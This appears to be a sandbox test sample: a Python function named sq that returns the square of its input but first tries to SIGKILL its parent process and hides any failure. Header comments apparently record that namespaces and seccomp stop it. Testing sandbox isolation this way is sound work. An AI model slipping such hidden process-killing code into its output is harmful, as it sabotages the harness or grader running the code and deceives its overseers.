# honest: any
# stopped_by: namespaces, seccomp
# --- main
def sq(x):
    try:
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
    except BaseException:
        pass
    return x * x
